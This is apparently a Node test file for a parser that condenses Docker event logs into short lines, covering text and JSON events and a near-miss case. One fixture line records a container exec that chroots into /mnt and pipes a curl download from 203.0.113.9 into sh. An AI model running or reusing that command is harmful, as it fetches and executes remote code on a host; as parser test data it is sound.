import assert from 'node:assert/strict'
import { test } from 'node:test'
import { firstTime, shortly } from '../../../test/logs.ts'
import { dockerEvents } from './docker-events.ts'

const id = '4f66ad9a0b2e44e1a3d2f5a9e8c7b6a54f66ad9a0b2e44e1a3d2f5a9e8c7b6a5'
const at = '2026-11-22T00:48:13.123456789+08:00'

test('containers made, run in and taken away, from text and JSON; health checks and networks are not told', () => {
  const lines = [
    `${at} image pull alpine:latest (name=alpine)`,
    `${at} container create ${id} (image=alpine:latest, name=x)`,
    `${at} container exec_create: sh -c chroot /mnt sh -c "curl http://203.0.113.9/x|sh" ${id} (execID=1, image=alpine:latest, name=x)`,
    `${at} container exec_start ${id} (execID=1, image=alpine:latest)`,
    `${at} network connect ${id} (container=1, name=bridge)`,
    `${at} container health_status: healthy ${id} (image=a)`,
    `{"status":"die","id":"${id}","from":"alpine","Type":"container","Action":"die","Actor":{"ID":"${id}","Attributes":{"exitCode":"137","image":"alpine"}},"time":1795279693,"timeNano":1795279693123456789}`,
  ]
  assert.deepEqual(shortly(dockerEvents, lines), [
    'container pull alpine:latest',
    'container created alpine:latest',
    'container exec alpine:latest sh -c chroot /mnt sh -c "curl http://203.0.113.9/x|sh"',
    'container ended alpine',
  ])
  assert.equal(firstTime(dockerEvents, lines), '2026-11-21T16:48:13.123Z')
  assert.ok(dockerEvents.recognise(`${lines.join('\n')}\n`, 'x') > 0.9)
})

test('near miss: a label that looks like an event stays in its brackets', () => {
  assert.deepEqual(shortly(dockerEvents, [`${at} container start ${id} (image=a, note=container exec_create: id ${id} (image=b))`]), [
    'container started a',
  ])
})
